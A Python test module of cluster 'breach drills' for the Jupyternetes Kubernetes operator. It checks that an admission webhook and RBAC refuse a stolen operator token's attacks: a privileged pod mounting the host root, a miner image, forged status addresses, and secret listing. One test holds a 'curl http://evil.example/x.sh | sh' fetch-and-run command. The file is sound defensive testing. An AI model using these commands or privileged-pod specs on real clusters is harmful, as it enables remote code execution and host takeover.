"""Breach drills: an attacker holds the operator's ServiceAccount token. The operator may create pods and PVCs, so
RBAC alone cannot stop it; the webhook admits from it only what an approved template renders for an existing
instance, and the floor and the policies apply to that too. Every attack must fail and leave nothing behind."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from typing import Any

import pytest

from jupyternetes import constants, kube, models, naming, render
from jupyternetes.dev import cluster as cluster_mod
from jupyternetes.dev.cluster import OPERATOR, LocalCluster
from tests.security.drills import NAMESPACE, instance, refused_by, unique
from tests.support import processes

pytestmark = pytest.mark.cluster


@pytest.fixture(scope="module")
def operator_account(cluster: LocalCluster) -> Iterator[kube.Kube]:
    with cluster.kube(OPERATOR) as client:
        yield client


@pytest.fixture(scope="module")
def rendering(admin: kube.Kube, hub: kube.Kube, cluster: LocalCluster, drill_template: dict[str, Any],
              operator: processes.Component) -> Iterator[tuple[dict[str, Any], dict[str, Any]]]:
    """A real instance, created by the hub and provisioned by the real operator, and the pod its template renders
    (with the owner reference the operator sets). Tampered copies keep the pod's name: the webhook judges a create
    before the API server finds the name taken, so a refusal here is the webhook's."""
    name = unique("drill-victim")
    hub.create(instance(name))
    selector = f"{constants.LABEL_INSTANCE}={name}"
    cluster_mod.wait_for(f"the operator to create the pod of {name}",
                         lambda: bool(admin.list(kube.POD, NAMESPACE, labelSelector=selector)["items"]),
                         timeout=60, interval=0.2)
    stored = admin.get(kube.INSTANCE, name, NAMESPACE)
    template = admin.get(kube.TEMPLATE, drill_template["metadata"]["name"], cluster.config.template_namespace)
    manifests = render.render(models.parse_template(template), models.parse_instance(stored))
    pod = copy.deepcopy(manifests.pods[0].manifest)
    pod["metadata"]["ownerReferences"] = [{"apiVersion": constants.API_VERSION, "kind": constants.INSTANCE_KIND,
                                           "name": name, "uid": stored["metadata"]["uid"], "controller": True}]
    yield pod, stored
    hub.delete(kube.INSTANCE, name, NAMESPACE)


def _unchanged(admin: kube.Kube, pod: dict[str, Any]) -> bool:
    """The stored pod is still the operator's rendering (the tampered copy did not replace or add anything)."""
    stored = admin.get(kube.POD, pod["metadata"]["name"], NAMESPACE)
    containers = stored["spec"]["containers"]
    return [c["name"] for c in containers] == ["notebook"] and \
        not any("hostPath" in v for v in stored["spec"].get("volumes", [])) and \
        containers[0]["image"] == "quay.io/jupyter/base-notebook:2026-11-16" and \
        containers[0]["command"] == ["jupyterhub-singleuser"]


def _refused(client: kube.Kube, manifest: dict[str, Any]) -> str:
    with pytest.raises(kube.Forbidden) as refused:
        client.create(manifest)
    return refused.value.message


class TestTheOperatorCreatesOnlyRenderings:
    def test_the_rendering_itself_is_admitted(self, operator_account: kube.Kube, admin: kube.Kube,
                                              rendering: tuple[dict[str, Any], dict[str, Any]]) -> None:
        """The control: the operator's own rendering was admitted (and is exactly the rendering), so the refusals
        below are about what was changed, not about the pod."""
        pod, _ = rendering
        stored = admin.get(kube.POD, pod["metadata"]["name"], NAMESPACE)
        assert stored["spec"]["containers"][0]["image"] == pod["spec"]["containers"][0]["image"]
        assert stored["spec"]["containers"][0]["command"] == pod["spec"]["containers"][0]["command"]
        with pytest.raises(kube.Conflict):
            operator_account.create(pod, dryRun="All")  # admitted by the webhook; only the name is taken

    def test_create_an_unlabelled_pod_that_no_template_renders(self, operator_account: kube.Kube,
                                                               admin: kube.Kube) -> None:
        name = unique("drill-op-plain")
        message = _refused(operator_account, {
            "apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": NAMESPACE},
            "spec": {"containers": [{"name": "miner", "image": "quay.io/jupyter/base-notebook:2026-11-16"}]}})
        assert refused_by(message) == "policy:jupyternetes-operator-creates-only-renderings"
        assert "may only create pods that carry the labels app.kubernetes.io/managed-by=jupyternetes" in message
        assert not admin.exists(kube.POD, name, NAMESPACE)

    def test_create_a_privileged_pod_dressed_as_a_rendering(
        self, operator_account: kube.Kube, admin: kube.Kube, rendering: tuple[dict[str, Any], dict[str, Any]]
    ) -> None:
        pod = copy.deepcopy(rendering[0])
        pod["spec"]["containers"][0]["securityContext"] = {"privileged": True}
        pod["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
        pod["spec"]["containers"][0]["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
        message = _refused(operator_account, pod)
        assert refused_by(message) == "policy:jupyternetes-operator-creates-only-renderings"
        assert "may not create privileged containers" in message
        assert _unchanged(admin, pod)

    def test_create_a_pod_with_an_image_off_the_allowlist(
        self, operator_account: kube.Kube, admin: kube.Kube, rendering: tuple[dict[str, Any], dict[str, Any]]
    ) -> None:
        pod = copy.deepcopy(rendering[0])
        pod["spec"]["containers"][0]["image"] = "docker.io/evil/miner:1"
        message = _refused(operator_account, pod)
        assert "spec.containers[0].image: differs from what template" in message
        assert "docker.io/evil/miner" in message
        assert _unchanged(admin, pod)

    def test_create_an_extra_container_with_a_changed_command(
        self, operator_account: kube.Kube, admin: kube.Kube, rendering: tuple[dict[str, Any], dict[str, Any]]
    ) -> None:
        pod = copy.deepcopy(rendering[0])
        pod["spec"]["containers"][0]["command"] = ["sh", "-c", "curl http://evil.example/x.sh | sh"]
        pod["spec"]["containers"].append({**pod["spec"]["containers"][0], "name": "sidecar"})
        message = _refused(operator_account, pod)
        assert "spec.containers" in message and "(rule matches-template)" in message
        assert _unchanged(admin, pod)

    def test_create_a_pod_for_an_instance_that_does_not_exist(
        self, operator_account: kube.Kube, admin: kube.Kube, rendering: tuple[dict[str, Any], dict[str, Any]]
    ) -> None:
        pod = copy.deepcopy(rendering[0])
        pod["metadata"]["name"] = unique("drill-orphan")
        pod["metadata"]["annotations"][constants.ANNOTATION_INSTANCE_NAME] = "no-such-instance"
        pod["metadata"]["labels"][constants.LABEL_INSTANCE] = "no-such-instance"
        pod["metadata"]["ownerReferences"][0]["name"] = "no-such-instance"  # structurally sound: only the webhook
        message = _refused(operator_account, pod)                           # can know the instance is not there
        assert refused_by(message) == "webhook:workloads.validate.jupyternetes.kadense.io"
        assert "no instance default/no-such-instance exists to render this Pod (rule rendered-only)" in message
        assert not admin.exists(kube.POD, pod["metadata"]["name"], NAMESPACE)

    def test_create_a_pvc_that_no_template_renders(self, operator_account: kube.Kube, admin: kube.Kube) -> None:
        name = unique("drill-op-pvc")
        message = _refused(operator_account, {
            "apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": name, "namespace": NAMESPACE},
            "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "10Ti"}}}})
        assert refused_by(message) == "policy:jupyternetes-operator-creates-only-renderings"
        assert "may only create persistentvolumeclaims that carry the labels" in message
        assert not admin.exists(kube.PVC, name, NAMESPACE)


class TestTheOperatorCannotRedirectUsers:
    @pytest.mark.parametrize("field", ["podIP", "port", "resourceName"])
    def test_an_instance_status_naming_another_pods_address_is_refused(
        self, operator_account: kube.Kube, admin: kube.Kube, rendering: tuple[dict[str, Any], dict[str, Any]],
        field: str,
    ) -> None:
        """The hub's proxy sends a user to the address in the instance's status; the operator writes it, but only
        its own pod's address is admitted (here: the address of another pod, as if another user's server, or
        another port, or another pod's name). Each field alone is enough for the webhook to be asked."""
        _, stored = rendering
        name = stored["metadata"]["name"]
        decoy = unique("drill-decoy")
        admin.create({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": decoy, "namespace": NAMESPACE},
                      "spec": {"containers": [{"name": "c", "image": "example.invalid/decoy:1"}]}})
        try:
            cluster_mod.wait_for("the decoy's address", lambda: bool(
                admin.get(kube.POD, decoy, NAMESPACE).get("status", {}).get("podIP")), timeout=30, interval=0.2)
            address = admin.get(kube.POD, decoy, NAMESPACE)["status"]["podIP"]
            cluster_mod.wait_for("the victim's address in its status", lambda: all(
                s.get("podIP") for s in (admin.get(kube.INSTANCE, name, NAMESPACE).get("status") or {}).get(
                    "pods", {"x": {}}).values()), timeout=60, interval=0.2)
            current = admin.get(kube.INSTANCE, name, NAMESPACE)
            entry, state = next(iter(current["status"]["pods"].items()))
            value = {"podIP": address, "port": 9999, "resourceName": decoy}[field]
            forged = [{"op": "replace", "path": f"/status/pods/{entry}/{field}", "value": value}]
            with pytest.raises(kube.Forbidden) as refused:
                operator_account.patch(kube.INSTANCE, name, forged, NAMESPACE, content_type=kube.JSON_PATCH,
                                       subresource="status")
            assert refused_by(refused.value.message) == "webhook:instance-addresses.validate.jupyternetes.kadense.io"
            said = {**state, field: value}
            assert f"says the server is at {said['podIP']}:{said['port']} (pod {said['resourceName']})" in \
                refused.value.message
            assert "(rule status-address)" in refused.value.message
            assert admin.get(kube.INSTANCE, name, NAMESPACE)["status"]["pods"][entry] == state
        finally:
            admin.delete(kube.POD, decoy, NAMESPACE)


    def test_a_pod_someone_else_made_with_the_entry_name_and_the_instance_uid_is_no_address(
        self, operator_account: kube.Kube, admin: kube.Kube, rendering: tuple[dict[str, Any], dict[str, Any]]
    ) -> None:
        """Found by a red team: a pod named as the operator would name an entry `aaa`, controlled by "Decoy" with
        the instance's uid (so no Jupyternetes check applies to it), serving the attacker's port. Anyone who may
        create pods there can make it; the operator's status pointing at it must still be refused, because the pod
        lacks what only the operator can give: a reference to the instance by kind and the entry's labels."""
        _, stored = rendering
        name, uid = stored["metadata"]["name"], stored["metadata"]["uid"]
        decoy = naming.object_name(name, "aaa")
        admin.create({"apiVersion": "v1", "kind": "Pod", "metadata": {
            "name": decoy, "namespace": NAMESPACE,
            "ownerReferences": [{"apiVersion": "example.com/v1", "kind": "Decoy", "name": name, "uid": uid,
                                 "controller": True}]},
            "spec": {"containers": [{"name": "c", "image": "example.invalid/decoy:1",
                                     "ports": [{"name": "http", "containerPort": 9999}]}]}})
        try:
            cluster_mod.wait_for("the decoy's address", lambda: bool(
                admin.get(kube.POD, decoy, NAMESPACE).get("status", {}).get("podIP")), timeout=30, interval=0.2)
            address = admin.get(kube.POD, decoy, NAMESPACE)["status"]["podIP"]
            forged = {"status": {"pods": {"aaa": {"resourceName": decoy, "podIP": address, "port": 9999,
                                                  "state": "Running"}}}}
            with pytest.raises(kube.Forbidden) as refused:
                operator_account.patch(kube.INSTANCE, name, forged, NAMESPACE, subresource="status")
            assert refused_by(refused.value.message) == "webhook:instance-addresses.validate.jupyternetes.kadense.io"
            assert f"says the server is at {address}:9999 (pod {decoy})" in refused.value.message
            assert "(rule status-address)" in refused.value.message
            assert "aaa" not in (admin.get(kube.INSTANCE, name, NAMESPACE).get("status") or {}).get("pods", {})
        finally:
            admin.delete(kube.POD, decoy, NAMESPACE)


class TestTheOperatorsRbacIsNarrow:
    def test_list_or_watch_secrets_to_harvest_them(self, operator_account: kube.Kube) -> None:
        with pytest.raises(kube.Forbidden):
            operator_account.list(kube.SECRET, NAMESPACE)
        with pytest.raises(kube.Forbidden):
            operator_account.list(kube.SECRET)

    def test_what_it_can_still_do_read_a_secret_whose_name_it_knows(self, operator_account: kube.Kube,
                                                                   admin: kube.Kube, namespace: str) -> None:
        """SECURITY.md says so: `get` on Secrets (it observes the instance Secrets it makes) reaches any Secret it can
        name in the namespaces it serves, every namespace by default."""
        admin.create({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "known", "namespace": namespace},
                      "stringData": {"k": "v"}})
        assert operator_account.get(kube.SECRET, "known", namespace)["data"]["k"] == "dg=="

    def test_what_it_can_still_do_write_events(self, operator_account: kube.Kube, namespace: str) -> None:
        event = {"apiVersion": "v1", "kind": "Event", "metadata": {"name": unique("drill-event"),
                                                                    "namespace": namespace},
                 "involvedObject": {"kind": "Pod", "name": "anything", "namespace": namespace},
                 "reason": "Drill", "message": "the operator may write Events", "type": "Normal"}
        assert operator_account.create(event, dryRun="All")["reason"] == "Drill"

    def test_delete_or_patch_a_users_pod(self, operator_account: kube.Kube, admin: kube.Kube) -> None:
        name = unique("drill-op-victim")
        admin.create({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": NAMESPACE},
                      "spec": {"containers": [{"name": "c", "image": "example.invalid/user:1"}]}})
        try:
            # RBAC refuses first (the admission policy would refuse too; its own drills show that).
            with pytest.raises(kube.Forbidden) as deleted:
                operator_account.delete(kube.POD, name, NAMESPACE)
            assert refused_by(deleted.value.message) == "rbac"
            assert 'cannot delete resource "pods"' in deleted.value.message
            with pytest.raises(kube.Forbidden) as patched:
                operator_account.patch(kube.POD, name, {"metadata": {"labels": {"x": "y"}}}, NAMESPACE)
            assert refused_by(patched.value.message) == "rbac"
            assert 'cannot patch resource "pods"' in patched.value.message
            assert admin.get(kube.POD, name, NAMESPACE)["metadata"].get("labels", {}).get("x") is None
        finally:
            admin.delete(kube.POD, name, NAMESPACE)

    @pytest.mark.parametrize(("api_version", "kind"), [("apps/v1", "Deployment"), ("batch/v1", "Job"),
                                                        ("rbac.authorization.k8s.io/v1", "RoleBinding")])
    def test_create_other_kinds(self, operator_account: kube.Kube, api_version: str, kind: str) -> None:
        with pytest.raises(kube.Forbidden) as refused:
            operator_account.create({"apiVersion": api_version, "kind": kind,
                                     "metadata": {"name": unique("drill-op"), "namespace": NAMESPACE}})
        assert refused_by(refused.value.message) == "rbac"
        assert f'cannot create resource "{kind.lower()}s"' in refused.value.message

    def test_change_templates(self, operator_account: kube.Kube, cluster: LocalCluster,
                              drill_template: dict[str, Any]) -> None:
        with pytest.raises(kube.Forbidden) as refused:
            operator_account.patch(kube.TEMPLATE, drill_template["metadata"]["name"],
                                   {"metadata": {"labels": {"drill": "x"}}}, cluster.config.template_namespace)
        assert refused_by(refused.value.message) == "rbac"
        assert 'cannot patch resource "jupyternotebooktemplates"' in refused.value.message


